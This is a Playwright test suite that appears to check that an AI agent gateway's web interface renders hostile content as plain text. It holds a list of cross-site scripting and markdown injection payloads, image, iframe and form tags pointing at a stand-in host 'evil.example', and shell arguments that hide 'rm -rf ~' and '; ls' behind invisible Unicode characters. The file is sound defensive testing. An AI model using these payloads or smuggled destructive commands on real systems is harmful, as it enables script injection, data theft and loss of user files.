/** Text of models, tools, files and people on the page: it stays text. Real gateway and Chromium. */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { SessionHandle } from '../../../src/client.ts';
import { openPageWorld, type PageWorld } from '../../helpers/page.ts';
import { playTeam } from '../../helpers/team-script.ts';

/** Each sets `pwned` if it runs, or calls another host. */
const ATTACKS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg><animate onbegin="window.pwned = 1" attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
  '<a href="javascript:window.pwned = 1">click</a>',
  '[click](javascript:window.pwned=1)',
  '[click](  JaVaScRiPt:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '![picture](https://evil.example/?stolen)',
  '![picture](x"onerror="window.pwned=1)',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name=a><button>ok</button></form>',
  '<style>body { display: none }</style>',
  '<input id="key" name="getElementById" autofocus onfocus="window.pwned=1">',
  '`</code><img src=x onerror=window.pwned=1>`',
  '```"><img src=x onerror=window.pwned=1>\n</pre><img src=x onerror=window.pwned=1>\n```',
  '| <img src=x onerror=window.pwned=1> |\n| --- |\n| [x](vbscript:window.pwned=1) |',
  '[ref][1]\n\n[1]: javascript:window.pwned=1 "</a><img src=x onerror=window.pwned=1>"',
];
const NAME = '<img src=x onerror=window.pwned=1>\u202egnp.exe';
const FILE = '<img src=x onerror=window.pwned=1>.txt';

describe('what others wrote, on the page', function () {
  this.timeout(240_000);
  let world: PageWorld;
  let page: Page;

  before(async function () {
    world = await openPageWorld(this);
    ({ page } = world);
    await page.addInitScript(`window.violations = [];
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        window.violations.push(violatedDirective + ' ' + blockedURI));`);
    await page.reload();
  });
  after(async () => world?.stop());

  async function checkNothingRan(): Promise<void> {
    assert.equal(await page.evaluate('window.pwned'), undefined);
    // The policy is the second line: the first one has let nothing come so far.
    assert.deepEqual(await page.evaluate('window.violations'), []);
    assert.deepEqual(world.problems, []);
    const links = await page
      .locator('a[href]')
      .evaluateAll((all) => all.map((link) => (link as unknown as { readonly href: string }).href)); // they are links
    for (const link of links) assert.match(link, /^(?:https?|mailto):/);
    const bad =
      'script:not([src^="/assets/"]), style, iframe, svg, math, img, .markdown :is(form, button, [id], [name], [style])';
    assert.equal(await page.locator(bad).count(), 0);
  }

  it('[W01] an answer, a name, a file, a message, a tool, a step and the context cannot run anything, nor call out', async () => {
    const answer = ATTACKS.join('\n\n');
    playTeam(world.model, {
      answer,
      files: [FILE],
      instead: ({ phase, task, lastRole }) => {
        if (phase === 'planning')
          return { json: { steps: [{ agent: 'engineer', task: `write ${FILE} ${ATTACKS[1]}`, notes: ATTACKS[0] }] } };
        if (phase !== 'step') return undefined;
        if (lastRole === 'tool')
          return { toolCalls: [{ name: 'report_step', arguments: { status: 'done', summary: answer } }] };
        return { toolCalls: [{ name: 'write_file', arguments: { path: FILE, content: task } }] };
      },
    });
    const session = await world.copilot.create({
      mode: 'planning-control',
      name: NAME,
      user: '<b onclick=1>ada',
      config: { approvals: { plan: true } },
      context: { [FILE]: ATTACKS.slice(0, 4) },
    });
    await session.send(answer);
    await page.goto(`${world.gateway.url}/#/sessions/${session.id}`);
    await page.getByRole('button', { name: 'Approve', exact: true }).click();
    await page.getByText('Fork here').waitFor();
    await page.getByText('1 call', { exact: true }).click();
    await page.getByRole('tab', { name: 'Context' }).click();
    await page.getByText(FILE, { exact: true }).first().click();
    await checkNothingRan();
    const shown = (await page.locator('.markdown').allInnerTexts()).join('\n');
    assert.ok(shown.includes('<script>window.pwned = 1</script>'), 'it is shown as text');
    assert.ok(shown.includes('[picture: picture]'), shown);
    assert.match(
      await page.getByRole('heading', { level: 2 }).innerText(),
      /^<img src=x onerror=window\.pwned=1><U\+202E>gnp\.exe$/,
    );
    assert.equal(await page.title(), '<img src=x onerror=window.pwned=1><U+202E>gnp.exe');
  });

  /** A session that asks whether a command with these arguments may run. */
  async function sessionThatAsks(args: Readonly<Record<string, unknown>>): Promise<SessionHandle> {
    playTeam(world.model, {
      files: ['a'],
      instead: ({ phase, lastRole }) =>
        phase === 'step' && lastRole !== 'tool' ? { toolCalls: [{ name: 'shell', arguments: args }] } : undefined,
    });
    const session = await world.copilot.create({ mode: 'planning-control' });
    await session.send('Run it');
    return session;
  }

  it('[W01] a call to decide shows every character of its arguments, also those that cannot be seen', async () => {
    const args = {
      command: `echo ok\u202e\u2800\u00a0;\u2066 rm -rf ~ \u2069\u200b\r\u001b[2K # ${'x'.repeat(30_000)} END`,
      'cwd\u202e': ATTACKS[1],
    };
    const session = await sessionThatAsks(args);
    const [pending] = await session.requests();
    await page.goto(`${world.gateway.url}/#/sessions/${session.id}`);
    await page.getByRole('button', { name: 'Allow once', exact: true }).waitFor();
    const command = await page.getByRole('group', { name: 'command' }).innerText();
    assert.ok(
      command.startsWith('echo ok<U+202E><U+2800><U+00A0>;<U+2066> rm -rf ~ <U+2069><U+200B>␍␛[2K # xxx'),
      command.slice(0, 100),
    );
    assert.ok(command.endsWith('x END'));
    const box = page.getByRole('group', { name: 'command' });
    assert.equal(
      await box.evaluate((element) => {
        const { scrollHeight, clientHeight, scrollWidth, clientWidth } = element as unknown as Record<string, number>;
        return scrollHeight === clientHeight && scrollWidth === clientWidth;
      }),
      true,
      'nothing of it is out of sight in a box of its own',
    );
    const top = await page.locator('section.request').evaluate((card) => {
      const { top: at } = (
        card as unknown as { getBoundingClientRect(): { readonly top: number } }
      ).getBoundingClientRect();
      return at;
    });
    assert.ok(top > 0 && top < 200, `it is read from its top, which is at ${top}`);
    await page.getByRole('button', { name: 'Change the arguments', exact: true }).click();
    const edited = await page.getByRole('textbox', { name: 'Arguments instead' }).inputValue();
    assert.ok(
      edited.includes(String.raw`echo ok\u202e\u2800\u00a0;\u2066 rm -rf ~ \u2069\u200b\r\u001b[2K`),
      edited.slice(0, 200),
    );
    assert.deepEqual(JSON.parse(edited), args);
    const [sent] = await Promise.all([
      page.waitForRequest(/\/decision$/),
      page
        .getByRole('button', { name: 'Deny', exact: true })
        .click()
        .then(async () => {
          await page.getByRole('button', { name: 'Deny', exact: true }).click();
        }),
    ]);
    assert.deepEqual(sent.postDataJSON(), { decision: 'deny', digest: pending?.digest });
    await checkNothingRan();
  });

  it('[W01] a call to decide shows which lines its arguments have: a wrapped line is no two, and spaces keep their room', async () => {
    const args = { command: `# ${'note '.repeat(60)}\nrm -rf ~`, cwd: `src${' '.repeat(600)}; ls` };
    const session = await sessionThatAsks(args);
    await page.goto(`${world.gateway.url}/#/sessions/${session.id}`);
    const command = page.getByRole('group', { name: 'command' });
    await command.waitFor();
    assert.equal(await command.locator('.code-line').count(), 2);
    assert.equal(await command.textContent(), args.command);
    const cwd = page.getByRole('group', { name: 'cwd' });
    assert.equal(await cwd.textContent(), args.cwd);
    const { height = 0 } = (await cwd.boundingBox()) ?? {};
    assert.ok(height > 100, `600 spaces need several lines, and have ${height} pixels`);
  });
});
